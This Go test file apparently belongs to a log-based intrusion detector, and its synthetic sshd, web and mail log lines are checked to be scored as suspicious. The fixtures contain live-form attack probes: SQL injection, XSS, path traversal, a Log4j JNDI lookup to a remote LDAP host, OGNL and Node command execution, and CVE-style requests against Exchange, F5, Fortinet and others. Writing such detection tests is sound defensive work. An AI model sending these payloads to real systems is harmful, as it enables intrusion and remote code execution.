package truth_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/connwarden/connwarden"
	"github.com/connwarden/connwarden/lab/truth"
	"github.com/connwarden/connwarden/rules"
)

// custom is the least that it is customary to take for an attack: so many failures or so many odd requests in so short a time, as
// the documentation of CrowdSec's collections for web servers, WordPress and SSH and of fail2ban's jails describes what they react to.
// The lines are ours; "12x 2s | " repeats one, as in the examples of rules.
var custom = []struct{ name, lines string }{
	{"six passwords over SSH within seconds", `6x 1s | {syslog} web1 sshd[42]: Failed password for root from 203.0.113.9 port 5{n}22 ssh2`},
	{"the same, refused by keyboard-interactive", `6x 1s | {syslog} web1 sshd[42]: error: PAM: Authentication failure for root from 203.0.113.9`},
	{"six names over SSH", `6x 1s | {syslog} web1 sshd[42]: Invalid user name{n} from 203.0.113.9 port 5{n}22`},
	{"a password a minute over SSH", `14x 60s | {syslog} web1 sshd[42]: Failed password for anna from 203.0.113.9 port 5{n}22 ssh2`},
	{"names over SSH, one in ten minutes", `8x 10m | {syslog} web1 sshd[42]: Invalid user n{n} from 203.0.113.9 port 5{n}22`},
	{"connections to SSH that cannot agree on a cipher", `6x 2s | {syslog} web1 sshd[42]: Unable to negotiate with 203.0.113.9 port 5{n}22: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1 [preauth]`},
	{"SSH connections that time out (CVE-2024-6387)", `8x 2m | {syslog} web1 sshd[42]: fatal: Timeout before authentication for 203.0.113.9 port 5{n}22`},
	{"six logins at wp-login.php", `6x 1s | {web} "POST /wp-login.php HTTP/1.1" 200 {tail}`},
	{"six calls of xmlrpc.php", `6x 1s | {web} "POST /xmlrpc.php HTTP/1.1" 200 {tail}`},
	{"six authors of WordPress", `6x 1s | {web} "GET /?author={n} HTTP/1.1" 301 {tail}`},
	{"six forms refused", `6x 1s | {web} "POST /login HTTP/1.1" 401 {tail}`},
	{"six forms forbidden", `6x 1s | {web} "POST /api/auth HTTP/1.1" 403 {tail}`},
	{"HTTP authentication", `6x 1s | 203.0.113.9 - admin [{clf}] "GET /private/ HTTP/1.1" 401 {tail}`},
	{"eleven pages that are not there", `11x 800ms | {web} "GET /page{n} HTTP/1.1" 404 {tail}`},
	{"six scripts that are not there", `6x 1s | {web} "GET /a{n}.php HTTP/1.1" 404 {tail}`},
	{"forty-five pages within seconds", `60x 100ms | {web} "GET /page{n}/ HTTP/1.1" 200 {tail}`},
	{"files that hold secrets", "{web} \"GET /.env HTTP/1.1\" 404 {tail}\n{web} \"GET /.git/config HTTP/1.1\" 404 {tail}\n{web} \"GET /db.sql HTTP/1.1\" 404 {tail}\n{web} \"GET /id_rsa HTTP/1.1\" 404 {tail}\n{web} \"GET /wp-config.php.bak HTTP/1.1\" 404 {tail}"},
	{"two shells", "{web} \"GET /c99.php HTTP/1.1\" 404 {tail}\n{web} \"GET /wso.php HTTP/1.1\" 404 {tail}"},
	{"administration pages", "{web} \"GET /admin/ HTTP/1.1\" 404 {tail}\n{web} \"GET /administrator/ HTTP/1.1\" 404 {tail}\n{web} \"GET /manager/html HTTP/1.1\" 404 {tail}\n{web} \"GET /webadmin/ HTTP/1.1\" 404 {tail}\n{web} \"GET /phpmyadmin/ HTTP/1.1\" 404 {tail}"},
	{"plugins of WordPress", `6x 1s | {web} "GET /wp-content/plugins/plugin{n}/readme.txt HTTP/1.1" 404 {tail}`},
	{"traversal", `4x 1s | {web} "GET /cgi-bin/%2e%2e/%2e%2e/%2e%2e/etc/passwd?{n} HTTP/1.1" 404 {tail}`},
	{"SQL", `11x 500ms | {web} "GET /item?id={n}%27%20UNION%20SELECT%201,2,{n}--%20- HTTP/1.1" 200 {tail}`},
	{"scripts", `6x 1s | {web} "GET /q?x={n}%3Cscript%3Ealert({n})%3C/script%3E HTTP/1.1" 200 {tail}`},
	{"a scanner that says so", `2x 1s | {web} "GET /x{n} HTTP/1.1" 404 512 "-" "Mozilla/5.00 (Nikto/2.1.6)"`},
	{"CONNECT", `{web} "CONNECT example.com:443 HTTP/1.1" 405 {tail}`},
	{"w00tw00t", `{web} "GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1" 404 {tail}`},
	{"PHPUnit", `{web} "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 404 {tail}`},
	{"Log4j, by the agent", `{web} "GET / HTTP/1.1" 200 512 "-" "${jndi:ldap://198.51.100.1/a}"`},
	{"Apache 2.4.49", `{web} "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 404 {tail}`},
	{"Exchange", `{web} "GET /autodiscover/autodiscover.json?@evil.example/owa/&Email=autodiscover/autodiscover.json%3F@evil.example HTTP/1.1" 404 {tail}`},
	{"F5", `{web} "GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd HTTP/1.1" 404 {tail}`},
	{"Fortinet", `{web} "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1" 404 {tail}`},
	{"Grafana", `{web} "GET /public/plugins/alertlist/../../../../../../../../etc/passwd HTTP/1.1" 404 {tail}`},
	{"Confluence by OGNL", `{web} "GET /%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/ HTTP/1.1" 404 {tail}`},
	{"Jira", `{web} "GET /s/1x/_/;/WEB-INF/web.xml HTTP/1.1" 404 {tail}`},
	{"Pulse Secure", `{web} "GET /dana-na/../dana/html5acc/guacamole/../../../../etc/passwd?/dana/html5acc/guacamole/ HTTP/1.1" 404 {tail}`},
	{"Spring", `{web} "POST /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1" 404 {tail}`},
	{"ThinkPHP", `{web} "GET /index.php?s=/index/\think\app/invokefunction&function=call_user_func_array HTTP/1.1" 404 {tail}`},
	{"vCenter", `{web} "POST /analytics/telemetry/ph/api/hyper/send?_c=&_i=test HTTP/1.1" 404 {tail}`},
	{"Zimbra", `{web} "POST /service/extension/backup/mboximport?account-name=admin&ow=2 HTTP/1.1" 404 {tail}`},
	{"a list of words", `45x 300ms | {web} "GET /word{n} HTTP/1.1" 404 {tail}`},
	{"keys that SSH does not take", `8x 30s | {syslog} web1 sshd[42]: Connection closed by authenticating user root 203.0.113.9 port 5{n}22 [preauth]`},
	{"a call of PHP's functions", `{web} "GET /x?a=call_user_func('system','id') HTTP/1.1" 200 {tail}`},
	{"a variable of PHP", `{web} "GET /x?a=$_SERVER['DOCUMENT_ROOT'] HTTP/1.1" 200 {tail}`},
	{"a command of Windows", `{web} "GET /x?a=%26+ipconfig+/all HTTP/1.1" 200 {tail}`},
	{"PowerShell", `{web} "GET /x?a=powershell+-enc+SQBFAFgA HTTP/1.1" 200 {tail}`},
	{"a class of Java", `{web} "GET /x?a=java.lang.ProcessBuilder HTTP/1.1" 200 {tail}`},
	{"Node", `{web} "GET /x?a=require('child_process').exec('id') HTTP/1.1" 200 {tail}`},
	{"a file of the system", `{web} "GET /x?a=/etc/crontab HTTP/1.1" 200 {tail}`},
	{"a comment that MySQL runs", `{web} "GET /x?a=1/*!50000union*//*!50000select*/1 HTTP/1.1" 200 {tail}`},
	{"a quote alone", `{web} "GET /x?a=' HTTP/1.1" 200 {tail}`},
	{"markup", `{web} "GET /x?a=%3Cplaintext%3E HTTP/1.1" 200 {tail}`},
	{"an attack as agent", `{web} "GET / HTTP/1.1" 200 512 "-" "Mozilla/5.0' OR 1=1-- "`},
	{"a host that calls back", `{web} "GET /x?a=http://c5a.oast.fun/ HTTP/1.1" 200 {tail}`},
	{"SharePoint", `{web} "POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx HTTP/1.1" 404 {tail}`},
	{"a product that is not there", `{web} "GET /Orion/Login.aspx HTTP/1.1" 404 {tail}`},
	{"metadata of a cloud", `{web} "GET /latest/meta-data/ HTTP/1.1" 404 {tail}`},
	{"a settings file that is not there", `{web} "GET /values.yaml HTTP/1.1" 404 {tail}`},
	{"Palo Alto", `{web} "GET /php/ztp_gate.php/.js.map HTTP/1.1" 404 {tail}`},
	{"Ghost", `6x 1s | {web} "POST /ghost/api/admin/session HTTP/1.1" 404 {tail}`},
	{"a flood of the front page past every cache", `150x 200ms | {web} "GET /?{hex}={n} HTTP/1.1" 200 {tail}`},
	{"random names", `150x 200ms | {web} "GET /{hex}{hex} HTTP/1.1" 404 {tail}`},
	{"ever another agent", `40x 500ms | {web} "GET /page{n}/ HTTP/1.1" 200 512 "-" "Agent {hex}"`},
	{"limits of nginx", `6x 5s | {nginx} [error] 42#42: *{n} limiting requests, excess: 20.500 by zone "one", client: 203.0.113.9, server: example.com, request: "GET /x HTTP/1.1", host: "example.com"` + "\n@access\n" + `6x 5s | {web} "GET /x HTTP/1.1" 503 {tail}`},
	{"TLS on a plain port", `6x 2s | {web} "\x16\x03\x01\x00\xee\x01\x00" 400 157 "-" "-"`},
	{"six passwords at FTP", `6x 1s | {syslog} web1 vsftpd[42]: [admin] FAIL LOGIN: Client "203.0.113.9"`},
	{"six passwords at the database", `6x 1s | {syslog} web1 mysqld[42]: 2026-11-22 14:00:00 12 [Warning] Access denied for user 'root'@'203.0.113.9' (using password: YES)`},
	{"mail to others", `3x 1s | {syslog} web1 postfix/smtpd[42]: NOQUEUE: reject: RCPT from unknown[203.0.113.9]: 454 4.7.1 <b@example.org>: Relay access denied; from=<a@example.net> to=<b@example.org> proto=ESMTP helo=<x>`},
	{"passwords at SMTP", `8x 3s | {syslog} web1 postfix/smtpd[42]: warning: unknown[203.0.113.9]: SASL LOGIN authentication failed: UGFzc3dvcmQ6`},
	{"passwords at IMAP", `8x 3s | {syslog} web1 dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<info>, method=PLAIN, rip=203.0.113.9, lip=192.0.2.1, TLS`},
	{"five connections to SSH that end at once", `5x 2s | {syslog} web1 sshd[42]: Connection closed by 203.0.113.9 port 5{n}22 [preauth]`},
	{"five farewells before anybody logs in", `5x 2s | {syslog} web1 sshd-session[42]: Received disconnect from 203.0.113.9 port 5{n}22:11: Bye Bye [preauth]`},
	{"three times too many passwords", `3x 9s | {syslog} web1 sshd[42]: Disconnecting invalid user bob 203.0.113.9 port 5{n}22: Too many authentication failures [preauth]`},
	{"ten passwords of an account in half an hour", `10x 170s | {syslog} web1 sshd[42]: Failed password for anna from 203.0.113.9 port 5{n}22 ssh2`},
	{"a key that is refused five times within seconds", `5x 2s | {syslog} web1 sshd[42]: Connection closed by authenticating user anna 203.0.113.9 port 5{n}22 [preauth]`},
	{"ten logins at wp-login.php in half an hour", `10x 170s | {web} "POST /wp-login.php HTTP/1.1" 200 {tail}`},
	{"an answer of XML-RPC to hundreds of calls", `{web} "POST /xmlrpc.php HTTP/1.1" 200 250000 "-" "Mozilla/5.0 (X11; Linux x86_64) Firefox/62.0"`},
	{"a user of WordPress by number", `{web} "GET /wp-json/wp/v2/users/1 HTTP/1.1" 200 {tail}`},
	{"scripts of plugins that are there", `4x 1s | {web} "GET /wp-content/plugins/plugin{n}/plugin{n}.php HTTP/1.1" 200 {tail}`},
	{"two odd names of scripts", "{web} \"GET /moon.php HTTP/1.1\" 404 {tail}\n{web} \"GET /ws.php HTTP/1.1\" 404 {tail}"},
	{"one odd name of a script, and nothing else", `{web} "GET /bless.php HTTP/1.1" 404 {tail}`},
	{"six forms forbidden at the front page", `6x 4s | {web} "POST / HTTP/1.1" 403 {tail}`},
	{"eight logins that are answered with the form", `8x 4s | {web} "POST /user/login HTTP/1.1" 200 {tail}`},
	{"versions of HTTP that there are not", `6x 2s | {web} "GET / HTTP/9.{n}" 505 {tail}`},
	{"DELETE by a browser", `{web} "DELETE /test.txt HTTP/1.1" 405 {tail}`},
	{"SQL with plus signs in the path", `{web} "GET /item/1)+ORDER+BY+10-- HTTP/1.1" 404 {tail}`},
	{"the judge of a proxy", `{web} "GET http://198.51.100.7/echo.php HTTP/1.1" 200 {tail}`},
	{"a program that copies sites", `2x 1s | {web} "GET /x{n} HTTP/1.1" 200 512 "-" "ChinaClaw"`},
	{"CyberPanel", `{web} "POST /dataBases/upgrademysqlstatus HTTP/1.1" 404 {tail}`},
	{"what a crawler claims to be and is not", `{web} "GET / HTTP/1.1" 200 512 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"`},
}

// TestCustom: what it is customary to take for an attack is suspicious at least.
func TestCustom(t *testing.T) {
	court, err := truth.NewCourt()
	if err != nil {
		t.Fatal(err)
	}
	fill := strings.NewReplacer("{web}", "203.0.113.9 - - [{clf}]", "{tail}", `512 "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"`)
	begin := time.Date(2026, 11, 20, 14, 0, 0, 0, time.UTC)
	for _, c := range custom {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			var files []string
			for i, part := range strings.Split(fill.Replace(c.lines), "\n@access\n") {
				text, err := rules.Expand(part, begin)
				if err != nil {
					t.Fatal(err)
				}
				name := filepath.Join(dir, fmt.Sprintf("%d.log", i))
				if err := os.WriteFile(name, text, 0o600); err != nil {
					t.Fatal(err)
				}
				files = append(files, name)
			}
			doc, err := court.Review(t.Context(), dir, files, begin.Add(24*time.Hour))
			if err != nil {
				t.Fatal(err)
			}
			for _, p := range doc.Peers {
				if p.Addr == "203.0.113.9" && p.Score >= connwarden.ScoreSuspicious {
					return
				}
			}
			t.Errorf("not even suspicious: %+v", doc.Peers)
		})
	}
}
